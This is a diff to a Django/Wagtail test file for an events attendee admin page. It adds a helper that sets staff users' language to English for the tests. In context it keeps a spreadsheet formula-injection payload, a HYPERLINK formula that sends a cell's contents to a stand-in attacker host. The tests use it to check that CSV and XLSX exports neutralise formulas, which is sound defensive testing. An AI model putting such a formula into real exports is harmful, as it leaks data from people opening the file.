@@ -23,6 +23,16 @@ pytestmark = pytest.mark.django_db
 FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'
 
 
+def in_english(user):
+    """The admin speaks the account's chosen language: English for the tests."""
+    from wagtail.users.models import UserProfile
+
+    profile = UserProfile.get_for_user(user)
+    profile.preferred_language = "en"
+    profile.save()
+    return user
+
+
 def register(event, email, *, confirm=True, needs=""):
     registration = services.registration_request(
         event=event, name=email.split("@")[0], email=email, needs=needs, language="de"
@@ -51,7 +61,7 @@ def test_the_log_action_is_registered():
 
 
 def test_an_owner_sees_the_counts_and_the_confirmed_and_waiting_people(client, event):
-    client.force_login(staff_member("amt", PROCESS_OWNERS))
+    client.force_login(in_english(staff_member("amt", PROCESS_OWNERS)))
     with translation.override("en"):
         response = client.get(reverse("events_attendees", args=[event.pk]))
     assert response.status_code == 200
@@ -78,7 +88,7 @@ def test_the_event_page_in_the_admin_links_to_its_attendees(client, event):
 
 
 def test_the_csv_lists_confirmed_then_waiting_with_needs_and_no_formula(client, event):
-    owner = staff_member("amt", PROCESS_OWNERS)
+    owner = in_english(staff_member("amt", PROCESS_OWNERS))
     client.force_login(owner)
     with translation.override("en"):
         response = client.get(
@@ -99,7 +109,7 @@ def test_the_csv_lists_confirmed_then_waiting_with_needs_and_no_formula(client, 
 
 
 def test_the_xlsx_reads_back_with_a_header_and_neutralised_needs(client, event):
-    client.force_login(staff_member("amt", PROCESS_OWNERS))
+    client.force_login(in_english(staff_member("amt", PROCESS_OWNERS)))
     with translation.override("en"):
         response = client.get(
             reverse("events_attendees_export", args=[event.pk, "xlsx"])
